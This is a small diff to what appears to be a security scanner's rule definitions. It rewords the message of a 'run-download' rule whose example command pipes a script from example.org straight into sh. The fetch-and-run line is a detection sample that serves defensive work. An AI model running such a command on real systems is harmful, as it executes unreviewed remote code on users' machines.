@@ -34,7 +34,7 @@ export const SECURITY_TYPES = {
       severity: 'high',
       rule: 'run-download',
       rules: ['run-download'],
-      message: 'A command runs text from the network that nobody has read',
+      message: 'A command runs text from the network without review',
       command: 'curl -fsSL https://example.org/i.sh | sh',
     },
   }),
